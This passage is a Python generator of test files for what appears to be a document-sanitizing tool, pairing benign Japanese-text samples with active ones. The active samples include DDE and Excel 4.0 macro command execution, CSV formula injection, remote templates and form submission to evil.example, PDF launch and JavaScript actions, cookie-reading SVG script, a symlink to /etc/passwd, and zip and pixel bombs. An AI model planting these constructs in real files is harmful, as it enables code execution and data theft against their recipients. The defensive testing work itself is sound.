"""Generators for the test corpus: every sample is built here from code, none is committed.

Active samples carry the active content of their family; benign ones carry content that must
survive (Japanese text, cell values, pages, pixels).
"""

from __future__ import annotations

import io
import itertools
import posixpath
import re
import struct
import zipfile
from collections.abc import Callable
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from sanitizer import SanitizeResult

Run = Callable[..., "tuple[SanitizeResult, bytes | None]"]


def zip_names(data: bytes) -> list[str]:
    return zipfile.ZipFile(io.BytesIO(data)).namelist()


def kinds(result: SanitizeResult) -> set[str]:
    return {r.kind for r in result.report.removed}


JA_TEXT = "市役所の会議資料です。無害化のテスト。"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


# --- OOXML --------------------------------------------------------------------------------


def docx_benign() -> bytes:
    import docx

    d = docx.Document()
    d.add_paragraph(JA_TEXT)
    table = d.add_table(rows=1, cols=2)
    table.rows[0].cells[0].text = "課"
    table.rows[0].cells[1].text = "情報管理課"
    out = io.BytesIO()
    d.save(out)
    return out.getvalue()


def _rewrite_zip(data: bytes, edit: dict[str, bytes | None], add: dict[str, bytes]) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            if info.filename in edit:
                body = edit[info.filename]
                if body is None:
                    continue
            else:
                body = src.read(info.filename)
            z.writestr(info.filename, body)
        for name, body in add.items():
            z.writestr(name, body)
    return out.getvalue()


def _add_rels(rels_xml: bytes, rels: str) -> bytes:
    return rels_xml.replace(b"</Relationships>", rels.encode() + b"</Relationships>")


def _ct_override(ct: bytes, part: str, content_type: str) -> bytes:
    return ct.replace(
        b"</Types>",
        f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>'.encode(),
    )


VBA_BIN = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b'Attribute VB_Name = "ThisDocument"' * 20
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MSR = "http://schemas.microsoft.com/office/2006/relationships"


def docm_active() -> bytes:
    """A macro-enabled Word file with VBA, a split DDEAUTO field, an external template,
    an OLE object, an external image, an altChunk and a custom UI."""
    base = docx_benign()
    z = zipfile.ZipFile(io.BytesIO(base))
    ct = z.read("[Content_Types].xml")
    ct = ct.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    ct = _ct_override(ct, "word/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    ct = _ct_override(
        ct,
        "word/embeddings/oleObject1.bin",
        "application/vnd.openxmlformats-officedocument.oleObject",
    )
    ct = _ct_override(ct, "customUI/customUI.xml", "application/xml")
    ct = _ct_override(ct, "word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
    doc = z.read("word/document.xml").decode()
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>'
        '<w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>結果</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
        f'xmlns:r="{R}" Type="Embed" ProgID="Package" r:id="rIdOle"/></w:object></w:r></w:p>'
        f'<w:altChunk xmlns:r="{R}" r:id="rIdChunk"/>'
        f'<w:p><w:r><w:object><w:control xmlns:r="{R}" r:id="rIdAx" w:name="CommandButton1"/>'
        "</w:object></w:r></w:p>"
    )
    doc = doc.replace("<w:sectPr", field + "<w:sectPr", 1)
    rels = z.read("word/_rels/document.xml.rels")
    rels = _add_rels(
        rels,
        f'<Relationship Id="rIdVba" Type="{MSR}/vbaProject" Target="vbaProject.bin"/>'
        f'<Relationship Id="rIdOle" Type="{R}/oleObject" Target="embeddings/oleObject1.bin"/>'
        f'<Relationship Id="rIdAx" Type="{R}/control" Target="activeX/activeX1.xml"/>'
        f'<Relationship Id="rIdChunk" Type="{R}/aFChunk" Target="http://evil.example/chunk.html" '
        'TargetMode="External"/>'
        f'<Relationship Id="rIdImg" Type="{R}/image" Target="http://evil.example/track.png" '
        'TargetMode="External"/>'
        f'<Relationship Id="rIdLink" Type="{R}/hyperlink" Target="https://www.city.example.jp/" '
        'TargetMode="External"/>'
        f'<Relationship Id="rIdBad" Type="{R}/hyperlink" Target="file://evil/share/x.exe" '
        'TargetMode="External"/>',
    )
    settings = z.read("word/settings.xml").decode()
    settings = settings.replace(
        "<w:zoom", f'<w:attachedTemplate xmlns:r="{R}" r:id="rIdTpl"/><w:zoom', 1
    )
    settings_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdTpl" Type="{R}/attachedTemplate" '
        'Target="http://evil.example/template.dotm" TargetMode="External"/></Relationships>'
    )
    pkg_rels = _add_rels(
        z.read("_rels/.rels"),
        f'<Relationship Id="rIdUi" Type="{MSR}/ui/extensibility" Target="customUI/customUI.xml"/>',
    )
    return _rewrite_zip(
        base,
        {
            "[Content_Types].xml": ct,
            "word/document.xml": doc.encode(),
            "word/_rels/document.xml.rels": rels,
            "word/settings.xml": settings.encode(),
            "_rels/.rels": pkg_rels,
        },
        {
            "word/vbaProject.bin": VBA_BIN,
            "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 600,
            "word/_rels/settings.xml.rels": settings_rels.encode(),
            "word/activeX/activeX1.xml": (
                b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
                b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
                b'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" '
                b'ax:persistence="persistStorage" '
                b'r:id="rIdBin"/>'
            ),
            "word/activeX/_rels/activeX1.xml.rels": (
                b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                b'<Relationship Id="rIdBin" Type="http://schemas.microsoft.com/office/2006/'
                b'relationships/activeXControlBinary" Target="activeX1.bin"/></Relationships>'
            ),
            "word/activeX/activeX1.bin": b"\xd0\xcf\x11\xe0" + b"ActiveX" * 90,
            "customUI/customUI.xml": (
                b'<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui"'
                b' onLoad="Go"/>'
            ),
        },
    )


def xlsx_benign() -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "集計"
    ws["A1"] = "住所"
    ws["B1"] = "人口"
    ws["A2"] = "東京都千代田区"
    ws["B2"] = 66680
    ws["B3"] = "=SUM(B2:B2)"
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def xlsm_active() -> bytes:
    """Macro-enabled Excel with VBA, an Excel 4.0 macro sheet, Auto_Open, a DDE formula, an
    external link and a data connection."""
    base = xlsx_benign()
    z = zipfile.ZipFile(io.BytesIO(base))
    ct = z.read("[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    ct = _ct_override(ct, "xl/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    ct = _ct_override(ct, "xl/macrosheets/sheet2.xml", "application/vnd.ms-excel.macrosheet+xml")
    ct = _ct_override(
        ct,
        "xl/externalLinks/externalLink1.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
    )
    ct = _ct_override(
        ct,
        "xl/connections.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
    )
    wbxml = z.read("xl/workbook.xml").decode()
    wbxml = wbxml.replace(
        "</sheets>",
        f'<sheet xmlns:r="{R}" name="Macro1" sheetId="2" state="veryHidden" '
        'r:id="rIdMacro"/></sheets>',
    ).replace(
        "<definedNames/>",
        '<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName>'
        '<definedName name="Keep">集計!$A$1</definedName></definedNames>',
    )
    rels = _add_rels(
        z.read("xl/_rels/workbook.xml.rels"),
        f'<Relationship Id="rIdVba" Type="{MSR}/vbaProject" Target="vbaProject.bin"/>'
        f'<Relationship Id="rIdMacro" Type="{MSR}/xlMacrosheet" Target="macrosheets/sheet2.xml"/>'
        f'<Relationship Id="rIdExt" Type="{R}/externalLink" '
        'Target="externalLinks/externalLink1.xml"/>'
        f'<Relationship Id="rIdConn" Type="{R}/connections" Target="connections.xml"/>',
    )
    sheet = z.read("xl/worksheets/sheet1.xml").decode()
    sheet = sheet.replace(
        "</sheetData>",
        '<row r="9"><c r="A9"><f>cmd|\' /c calc\'!A0</f><v>0</v></c></row></sheetData>',
    )
    macro = (
        '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" '
        'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
        '<c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>'
    )
    return _rewrite_zip(
        base,
        {
            "[Content_Types].xml": ct,
            "xl/workbook.xml": wbxml.encode(),
            "xl/_rels/workbook.xml.rels": rels,
            "xl/worksheets/sheet1.xml": sheet.encode(),
        },
        {
            "xl/vbaProject.bin": VBA_BIN,
            "xl/macrosheets/sheet2.xml": macro.encode(),
            "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
            "xl/connections.xml": (
                b'<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                b'<connection id="1" name="q"><webPr url="http://evil.example/q"/></connection>'
                b"</connections>"
            ),
        },
    )


def pptx_benign() -> bytes:
    import pptx
    from pptx.util import Inches

    prs = pptx.Presentation()
    slide = prs.slides.add_slide(prs.slide_layouts[5])
    slide.shapes.title.text = "防災訓練のお知らせ"
    box = slide.shapes.add_textbox(Inches(1), Inches(2), Inches(6), Inches(1))
    box.text_frame.text = JA_TEXT
    out = io.BytesIO()
    prs.save(out)
    return out.getvalue()


def pptm_active() -> bytes:
    base = pptx_benign()
    z = zipfile.ZipFile(io.BytesIO(base))
    ct = z.read("[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
        b"application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
    )
    ct = _ct_override(ct, "ppt/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    rels = _add_rels(
        z.read("ppt/_rels/presentation.xml.rels"),
        f'<Relationship Id="rIdVba" Type="{MSR}/vbaProject" Target="vbaProject.bin"/>',
    )
    slide = z.read("ppt/slides/slide1.xml").decode()
    slide = slide.replace(
        "<a:t>" + JA_TEXT,
        "<a:t>" + JA_TEXT,
    )
    slide = re.sub(
        r"<p:cNvPr id=\"(\d+)\" name=\"TextBox (\d+)\"/>",
        r'<p:cNvPr id="\1" name="TextBox \2"><a:hlinkClick r:id="" action="ppaction://program"/></p:cNvPr>',
        slide,
    )
    return _rewrite_zip(
        base,
        {
            "[Content_Types].xml": ct,
            "ppt/_rels/presentation.xml.rels": rels,
            "ppt/slides/slide1.xml": slide.encode(),
        },
        {"ppt/vbaProject.bin": VBA_BIN},
    )


def encrypt_ooxml(data: bytes, password: str) -> bytes:
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(data)).encrypt(password, out)
    return out.getvalue()


# --- legacy OLE2 ------------------------------------------------------------------------


def ole_file(streams: dict[str, bytes]) -> bytes:
    """A minimal compound file (v3, 512-byte sectors). Streams are padded to 4096 bytes so
    that none lives in the mini stream; `a/b` names a stream `b` in storage `a`."""
    sector = 512
    free, endchain, fatsect = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    # directory tree: root, storages, streams
    entries: list[dict[str, object]] = [{"name": "Root Entry", "type": 5, "children": []}]
    index: dict[str, int] = {"": 0}
    for path in streams:
        parts = path.split("/")
        for depth in range(1, len(parts) + 1):
            key = "/".join(parts[:depth])
            if key in index:
                continue
            parent = index["/".join(parts[: depth - 1])]
            is_stream = depth == len(parts)
            entries.append(
                {"name": parts[depth - 1], "type": 2 if is_stream else 1, "children": []}
            )
            index[key] = len(entries) - 1
            entries[parent]["children"].append(len(entries) - 1)  # type: ignore[union-attr]
    data_sectors: list[bytes] = []
    starts: dict[int, tuple[int, int]] = {}
    chains: list[int] = []
    for path, body in streams.items():
        body = body.ljust(4096, b"\x00")
        n = (len(body) + sector - 1) // sector
        start = len(data_sectors)
        for i in range(n):
            data_sectors.append(body[i * sector : (i + 1) * sector].ljust(sector, b"\x00"))
        starts[index[path]] = (start, len(body))
        chains.append(start)
        chains.append(n)
    # directory sectors
    dir_entries = b""
    for i, e in enumerate(entries):
        name = str(e["name"]).encode("utf-16-le") + b"\x00\x00"
        children: list[int] = e["children"]  # type: ignore[assignment]
        # children as a degenerate right-leaning "tree": first child, siblings chained right
        child = children[0] if children else free
        start, size = starts.get(i, (endchain, 0))
        ent = bytearray(128)
        ent[0 : len(name)] = name
        struct.pack_into("<H", ent, 64, len(name))
        ent[66] = int(e["type"])  # type: ignore[call-overload]
        ent[67] = 1  # black
        struct.pack_into("<III", ent, 68, free, free, child)
        struct.pack_into("<I", ent, 116, start)
        struct.pack_into("<I", ent, 120, size)
        dir_entries += bytes(ent)
        entries[i]["_raw"] = len(dir_entries) - 128
    raw = bytearray(dir_entries)
    for e in entries:
        children = e["children"]  # type: ignore[assignment]
        for a, b in itertools.pairwise(children):
            struct.pack_into("<I", raw, a * 128 + 72, b)  # right sibling
    raw = bytes(raw).ljust(((len(raw) + sector - 1) // sector) * sector, b"\x00")
    n_dir = len(raw) // sector
    n_data = len(data_sectors)
    n_fat = 1
    while (n_data + n_dir + n_fat) > n_fat * (sector // 4):
        n_fat += 1
    fat = [free] * (n_fat * sector // 4)
    # data chains
    pos = 0
    for path, body in streams.items():
        start, size = starts[index[path]]
        n = (size + sector - 1) // sector
        for i in range(n):
            fat[start + i] = start + i + 1 if i < n - 1 else endchain
        pos += n
    dir_start = n_data
    for i in range(n_dir):
        fat[dir_start + i] = dir_start + i + 1 if i < n_dir - 1 else endchain
    fat_start = n_data + n_dir
    for i in range(n_fat):
        fat[fat_start + i] = fatsect
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<I", header, 44, n_fat)
    struct.pack_into("<I", header, 48, dir_start)
    struct.pack_into("<I", header, 56, 4096)
    struct.pack_into("<I", header, 60, endchain)  # no mini FAT
    struct.pack_into("<I", header, 64, 0)
    struct.pack_into("<I", header, 68, endchain)  # no DIFAT sectors
    difat = [fat_start + i for i in range(n_fat)] + [free] * (109 - n_fat)
    struct.pack_into("<109I", header, 76, *difat)
    body = b"".join(data_sectors) + raw + struct.pack(f"<{len(fat)}I", *fat)
    return bytes(header) + body


def _fib() -> bytes:
    fib = bytearray(1024)
    struct.pack_into("<HH", fib, 0, 0xA5EC, 0x00C1)
    text = JA_TEXT.encode("utf-16-le")
    return bytes(fib) + text


def doc_benign() -> bytes:
    return ole_file({"WordDocument": _fib(), "1Table": b"\x00" * 64})


def doc_with_macros() -> bytes:
    return ole_file(
        {
            "WordDocument": _fib(),
            "1Table": b"\x00" * 64,
            "Macros/VBA/dir": b"\x01" * 64,
            "Macros/VBA/ThisDocument": b"Attribute VB_Name" * 10,
        }
    )


def doc_with_object() -> bytes:
    return ole_file(
        {
            "WordDocument": _fib(),
            "1Table": b"\x00" * 64,
            "ObjectPool/_1234/\x01Ole10Native": b"x" * 64,
        }
    )


def _biff(rtype: int, body: bytes) -> bytes:
    return struct.pack("<HH", rtype, len(body)) + body


def _xls_stream(sheet_type: int) -> bytes:
    bof = _biff(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0, 0, 0, 0))
    name = "集計".encode("utf-16-le")
    boundsheet = _biff(0x0085, struct.pack("<IBBBB", 0, 0, sheet_type, 2, 1) + name)
    return bof + boundsheet + _biff(0x000A, b"")


def xls_benign() -> bytes:
    return ole_file({"Workbook": _xls_stream(0)})


def xls_with_macro_sheet() -> bytes:
    return ole_file({"Workbook": _xls_stream(1)})


def _ppt_record(rtype: int, body: bytes, *, container: bool = False) -> bytes:
    return struct.pack("<HHI", 0x000F if container else 0, rtype, len(body)) + body


def _ppt_stream(extra: bytes = b"") -> bytes:
    text = _ppt_record(0x0FA0, JA_TEXT.encode("utf-16-le"))  # TextCharsAtom
    return _ppt_record(0x03E8, text + extra, container=True)  # DocumentContainer


def ppt_benign() -> bytes:
    return ole_file({"PowerPoint Document": _ppt_stream(), "Current User": b"\x00" * 32})


def ppt_with_object() -> bytes:
    ole_record = _ppt_record(0x1011, b"\x00" * 32)  # ExOleObjStg: an embedded OLE object
    return ole_file({"PowerPoint Document": _ppt_stream(ole_record), "Current User": b"\x00" * 32})


def ppt_with_macros() -> bytes:
    return ole_file(
        {
            "PowerPoint Document": _ppt_stream(),
            "Current User": b"\x00" * 32,
            "_VBA_PROJECT_CUR/VBA/dir": b"\x01" * 64,
        }
    )


def jtd_benign() -> bytes:
    return ole_file(
        {"DocumentText": JA_TEXT.encode("utf-16-le"), "DocumentViewStyles": b"\x00" * 32}
    )


# --- RTF, PDF -------------------------------------------------------------------------------


def _rtf_unicode(text: str) -> str:
    return "".join(f"\\u{ord(c) if ord(c) < 32768 else ord(c) - 65536}?" for c in text)


def rtf_benign() -> bytes:
    return (
        "{\\rtf1\\ansi\\ansicpg932\\deff0{\\fonttbl{\\f0 MS Mincho;}}"
        f"\\pard\\f0 {_rtf_unicode(JA_TEXT)}\\par}}"
    ).encode("ascii")


def rtf_active() -> bytes:
    body = (
        "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 MS Mincho;}}"
        "{\\*\\template http://evil.example/t.dotm}"
        f"\\pard\\f0 {_rtf_unicode(JA_TEXT)}\\par"
        "{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata 0105000002000000}"
        "{\\result {\\pict\\wmetafile8 0000}}}"
        '{\\field{\\*\\fldinst {DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"}}'
        "{\\fldrslt {RESULT}}}\\par}"
    )
    return body.encode("ascii") + b"MZ\x90\x00appended payload"


def pdf_benign(pages: int = 2) -> bytes:
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.cidfonts import UnicodeCIDFont
    from reportlab.pdfgen import canvas

    pdfmetrics.registerFont(UnicodeCIDFont("HeiseiMin-W3"))
    out = io.BytesIO()
    c = canvas.Canvas(out)
    for n in range(pages):
        c.setFont("HeiseiMin-W3", 14)
        c.drawString(72, 720, f"{JA_TEXT} {n + 1}")
        c.setFont("Helvetica", 12)
        c.drawString(72, 700, f"Page {n + 1} plain text")
        c.showPage()
    c.save()
    return out.getvalue()


def pdf_active() -> bytes:
    import pikepdf

    pdf = pikepdf.open(io.BytesIO(pdf_benign()))
    js = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('x')")
        )
    )
    pdf.Root.OpenAction = js
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), js])),
        EmbeddedFiles=pikepdf.Dictionary(
            Names=pikepdf.Array(
                [
                    pikepdf.String("evil.exe"),
                    pikepdf.Dictionary(
                        Type=pikepdf.Name.Filespec,
                        F=pikepdf.String("evil.exe"),
                        EF=pikepdf.Dictionary(F=pdf.make_stream(b"MZ payload")),
                    ),
                ]
            )
        ),
    )
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pdf.make_stream(b"<xdp/>"))
    page = pdf.pages[0]
    page.obj.AA = pikepdf.Dictionary(O=js)

    def link(action: pikepdf.Dictionary) -> pikepdf.Dictionary:
        return pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 10, 10], A=action
        )

    page.obj.Annots = pdf.make_indirect(
        pikepdf.Array(
            [
                link(pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))),
                link(
                    pikepdf.Dictionary(
                        S=pikepdf.Name.URI, URI=pikepdf.String("https://www.city.example.jp/")
                    )
                ),
                link(
                    pikepdf.Dictionary(
                        S=pikepdf.Name.URI, URI=pikepdf.String("file:///c:/windows/calc.exe")
                    )
                ),
                link(
                    pikepdf.Dictionary(
                        S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://evil.example/")
                    )
                ),
                link(
                    pikepdf.Dictionary(
                        S=pikepdf.Name.URI, URI=pikepdf.String("mailto:soumu@city.example.jp")
                    )
                ),
                link(pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("javascript:x()"))),
                link(
                    pikepdf.Dictionary(
                        S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\evil\\share\\x.pdf"), D=[0]
                    )
                ),
                link(
                    pikepdf.Dictionary(
                        S=pikepdf.Name.ImportData, F=pikepdf.String("http://evil.example/d.fdf")
                    )
                ),
                pikepdf.Dictionary(
                    Type=pikepdf.Name.Annot,
                    Subtype=pikepdf.Name.RichMedia,
                    Rect=[0, 0, 10, 10],
                    RichMediaContent=pikepdf.Dictionary(
                        Assets=pikepdf.Dictionary(Names=pikepdf.Array()),
                    ),
                ),
            ]
        )
    )
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def pdf_encrypted(user: str, owner: str = "owner-pass") -> bytes:
    import pikepdf

    pdf = pikepdf.open(io.BytesIO(pdf_benign()))
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(user=user, owner=owner))
    return out.getvalue()


# --- images -------------------------------------------------------------------------------


def jpeg_with_gps(width: int = 64, height: int = 32, orientation: int = 6) -> bytes:
    from PIL import Image

    im = Image.new("RGB", (width, height), (200, 30, 30))
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "PhoneMaker"
    gps = {1: "N", 2: (35.0, 41.0, 22.0), 3: "E", 4: (139.0, 41.0, 30.0)}
    exif[0x8825] = gps
    out = io.BytesIO()
    im.save(out, "JPEG", exif=exif, comment=b"secret comment")
    return out.getvalue() + b"PK\x03\x04appended zip payload"


def _gps_exif() -> bytes:
    from PIL import Image

    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    exif[0x8825] = {1: "N", 2: (35.0, 41.0, 22.0), 3: "E", 4: (139.0, 41.0, 30.0)}
    return exif.tobytes()


def webp_with_gps() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (33, 17), (1, 2, 3)).save(out, "WEBP", exif=_gps_exif())
    return out.getvalue()


def heic_with_gps() -> bytes:
    import pillow_heif
    from PIL import Image

    pillow_heif.register_heif_opener()
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (10, 200, 10)).save(out, "HEIF", quality=80, exif=_gps_exif())
    return out.getvalue()


def png_with_text() -> bytes:
    from PIL import Image, PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "山田")
    out = io.BytesIO()
    Image.new("RGBA", (40, 30), (0, 0, 255, 128)).save(out, "PNG", pnginfo=info)
    return out.getvalue()


def gif_animated() -> bytes:
    from PIL import Image

    frames = [Image.new("P", (20, 20), i) for i in (1, 2)]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:])
    return out.getvalue()


def webp_image() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (33, 17), (1, 2, 3)).save(out, "WEBP")
    return out.getvalue()


def heic_image() -> bytes:
    import pillow_heif
    from PIL import Image

    pillow_heif.register_heif_opener()
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (10, 200, 10)).save(out, "HEIF", quality=80)
    return out.getvalue()


def png_pixel_bomb(width: int = 100_000, height: int = 100_000) -> bytes:
    import zlib

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


# --- SVG, HTML, text ------------------------------------------------------------------------


def svg_active() -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        'width="100" height="50" onload="alert(1)">'
        "<script>alert(document.cookie)</script>"
        '<style>@import url("http://evil.example/x.css");</style>'
        '<a xlink:href="javascript:alert(1)"><rect width="10" height="10"/></a>'
        '<image xlink:href="http://evil.example/track.png" width="1" height="1"/>'
        '<use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="/>'
        '<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>'
        f'<text x="5" y="30" fill="url(#g)" onclick="steal()">{JA_TEXT}</text>'
        '<rect x="1" y="1" width="5" height="5" fill="url(http://evil.example/p)"/>'
        "</svg>"
    ).encode()


def svg_benign() -> bytes:
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="50" viewBox="0 0 100 50">'
        '<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs>'
        '<rect width="100" height="50" fill="url(#g)"/>'
        f'<text x="5" y="30" font-size="12">{JA_TEXT}</text></svg>'
    ).encode()


def svg_entities() -> bytes:
    return (
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>'
    )


def html_active() -> bytes:
    return (
        "<!DOCTYPE html><html><head><title>t</title><script>alert(1)</script></head>"
        f'<body onload="evil()"><h1>お知らせ</h1><p>{JA_TEXT}</p>'
        '<a href="javascript:alert(1)">リンク</a><iframe src="http://evil.example"></iframe>'
        "</body></html>"
    ).encode()


def csv_cp932_with_formulas() -> bytes:
    text = (
        "氏名,金額,メモ\r\n"
        '山田,-500,=HYPERLINK("http://evil.example","click")\r\n'
        "鈴木,+81,\"@SUM(1+1)*cmd|' /C calc'!A0\"\r\n"
        "佐藤,1200,+1+2\r\n"
    )
    return text.encode("cp932")


# --- ZIP ------------------------------------------------------------------------------------


def zip_with_cp932_name(entries: dict[str, bytes]) -> bytes:
    """Entries whose names are written in CP932 without the UTF-8 flag (as Windows does)."""
    placeholders = {}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for i, (name, body) in enumerate(entries.items()):
            raw = name.encode("cp932")
            placeholder = f"{i:0{len(raw)}d}"[-len(raw) :].encode() if not name.isascii() else raw
            placeholders[placeholder] = raw
            z.writestr(placeholder.decode(), body)
    data = out.getvalue()
    for placeholder, raw in placeholders.items():
        if placeholder != raw:
            data = data.replace(placeholder, raw)
    return data


def zip_plain(entries: dict[str, bytes], *, link: str | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, body in entries.items():
            z.writestr(name, body)
        if link:
            info = zipfile.ZipInfo(link)
            info.external_attr = (0o120777) << 16
            z.writestr(info, "/etc/passwd")
    return out.getvalue()


def zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("zeros.txt", b"0" * (40 * 1024 * 1024))
    return out.getvalue()


def zip_with_encrypted_entry() -> bytes:
    data = bytearray(zip_plain({"secret.txt": b"hello", "open.txt": "公開".encode()}))
    # set the "encrypted" flag of the first entry in its local and central headers
    local = data.find(b"PK\x03\x04")
    central = data.find(b"PK\x01\x02")
    data[local + 6] |= 0x01
    data[central + 8] |= 0x01
    return bytes(data)


def nested_zip(depth: int) -> bytes:
    body = zip_plain({"note.txt": b"deep"})
    for _ in range(depth - 1):
        body = zip_plain({"inner.zip": body})
    return body


# --- pictures inside OOXML ------------------------------------------------------------------

SVG_BLIP_EXT = "{96DAC541-7B7A-43D3-8B79-37D633B846F1}"
ASVG = "http://schemas.microsoft.com/office/drawing/2016/SVG/main"


def png_plain(size: tuple[int, int] = (24, 12)) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", size, (0, 128, 0)).save(out, "PNG")
    return out.getvalue()


def _picture_doc(kind: str, pictures: list[bytes]) -> bytes:
    """A docx/xlsx/pptx with Japanese text and these pictures, made by its usual library."""
    out = io.BytesIO()
    if kind == "docx":
        import docx

        d = docx.Document()
        d.add_paragraph(JA_TEXT)
        for picture in pictures:
            d.add_picture(io.BytesIO(picture))
        d.save(out)
    elif kind == "xlsx":
        import openpyxl
        from openpyxl.drawing.image import Image as XlImage

        wb = openpyxl.Workbook()
        ws = wb.active
        ws.title = "写真"
        ws["A1"] = JA_TEXT
        for n, picture in enumerate(pictures):
            ws.add_image(XlImage(io.BytesIO(picture)), f"C{3 + n * 10}")
        wb.save(out)
    else:
        import pptx
        from pptx.util import Inches

        prs = pptx.Presentation()
        slide = prs.slides.add_slide(prs.slide_layouts[5])
